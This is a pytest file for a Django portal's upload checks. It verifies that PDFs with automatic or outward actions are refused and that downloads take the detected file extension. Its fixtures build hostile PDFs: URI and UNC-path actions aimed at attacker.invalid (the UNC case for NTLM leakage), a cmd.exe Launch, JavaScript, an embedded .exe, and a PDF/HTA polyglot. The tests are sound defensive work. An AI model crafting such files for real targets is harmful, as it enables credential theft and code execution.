"""Issue 16, finding 12: uploads are downloaded under the extension of their detected type, and
PDFs with automatic or outward actions are refused (portal/files/uploads.py, with pikepdf).
Finding 17's photo half (EXIF and GPS) is in tests/security/test_findings_data.py.
"""

import io
from urllib.parse import quote

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from approvals import services
from approvals.models import ApplicationFile
from portal.files.uploads import check_upload, download_name
from tests.approvals.conftest import cases, items, residents  # noqa: F401
from tests.approvals.upload_files import handmade_pdf, png_bytes, reportlab_pdf
from tests.services_catalog.conftest import delegate, dibao, guide  # noqa: F401

# A file that is a PDF to a PDF reader and an HTML application to mshta.exe.
POLYGLOT = handmade_pdf(b"<< /Title (<hta:application><script>alert(1)</script>) >>")


def upload(data: bytes, name: str = "scan.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def pdf_with(**catalog) -> bytes:
    """A real PDF written by pikepdf with extra catalog/page entries, as a hostile tool would."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in catalog.items():
        if key.startswith("page_"):
            pdf.pages[0].obj[pikepdf.Name("/" + key[5:])] = value
        else:
            pdf.Root[pikepdf.Name("/" + key)] = value
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def action(kind: str, **entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def link_annotation(act: pikepdf.Dictionary) -> pikepdf.Array:
    return pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=act)]
    )


HOSTILE = {
    "open_action_uri": lambda: pdf_with(
        OpenAction=action("URI", URI=pikepdf.String("http://attacker.invalid/"))
    ),
    "open_action_gotor_ntlm": lambda: pdf_with(
        OpenAction=action("GoToR", F=pikepdf.String(r"\\attacker.invalid\share\x.pdf"), D=pikepdf.Array([0]))
    ),
    "open_action_launch": lambda: pdf_with(OpenAction=action("Launch", F=pikepdf.String("cmd.exe"))),
    "open_action_javascript": lambda: pdf_with(
        OpenAction=action("JavaScript", JS=pikepdf.String("app.alert(1)"))
    ),
    "open_action_chained_uri": lambda: pdf_with(
        OpenAction=action(
            "GoTo", D=pikepdf.Array([0]), Next=action("URI", URI=pikepdf.String("http://x.invalid/"))
        )
    ),
    "page_additional_action": lambda: pdf_with(
        page_AA=pikepdf.Dictionary(O=action("URI", URI=pikepdf.String("http://x.invalid/")))
    ),
    "uri_link": lambda: pdf_with(
        page_Annots=link_annotation(action("URI", URI=pikepdf.String("http://x.invalid/")))
    ),
    "gotor_link": lambda: pdf_with(
        page_Annots=link_annotation(action("GoToR", F=pikepdf.String(r"\\x.invalid\s\y.pdf")))
    ),
    "embedded_file": lambda: pdf_with(
        Names=pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("a.exe"), pikepdf.Dictionary()])
            )
        )
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_finding_12_pdfs_with_automatic_or_outward_actions_are_refused(case):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload(HOSTILE[case]()))
    assert refused.value.code in {"pdf_action", "pdf_link", "pdf_script", "pdf_attachment"}
    assert refused.value.messages[0]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: reportlab_pdf(with_photo=True), id="scan"),
        pytest.param(lambda: pdf_with(OpenAction=pikepdf.Array([0, pikepdf.Name.Fit])), id="open-at-page"),
        pytest.param(
            lambda: pdf_with(OpenAction=action("GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit]))), id="goto"
        ),
    ],
)
def test_finding_12_ordinary_pdfs_are_still_accepted(data):
    assert check_upload(upload(data())).content_type == "application/pdf"


@pytest.mark.parametrize(
    ("shown", "content_type", "expected"),
    [
        ("居民身份证.hta", "application/pdf", "居民身份证.pdf"),
        ("scan.pdf.exe", "application/pdf", "scan.pdf.pdf"),
        ("photo.PNG", "image/jpeg", "photo.jpg"),
        ("户口簿", "image/png", "户口簿.png"),
        ("", "application/pdf", "upload.pdf"),
        (".hta", "application/pdf", "hta.pdf"),
    ],
)
def test_finding_12_download_name_takes_the_detected_extension(shown, content_type, expected):
    assert download_name(shown, content_type) == expected


@pytest.mark.django_db
def test_finding_12_a_polyglot_named_hta_downloads_as_pdf(client, cases, world):  # noqa: F811
    application = cases.draft()
    record = services.file_attach(
        actor=world.assistant_a1,
        application=application,
        kind=ApplicationFile.Kind.CONSENT,
        uploaded=upload(POLYGLOT, "居民身份证.hta"),
    )
    assert record.file.name.endswith(".pdf")
    client.force_login(world.assistant_a1)
    response = client.get(reverse("approvals:file", args=[application.pk, record.pk]))
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert quote("居民身份证.pdf") in disposition and ".hta" not in disposition
    assert response["Content-Type"] == "application/pdf"


@pytest.mark.django_db
def test_finding_12_a_png_named_pdf_downloads_as_png(client, cases, world):  # noqa: F811
    application = cases.draft()
    record = services.file_attach(
        actor=world.assistant_a1,
        application=application,
        kind=ApplicationFile.Kind.CONSENT,
        uploaded=upload(png_bytes(), "授权书.pdf"),
    )
    client.force_login(world.assistant_a1)
    response = client.get(reverse("approvals:file", args=[application.pk, record.pk]))
    assert quote("授权书.png") in response["Content-Disposition"]
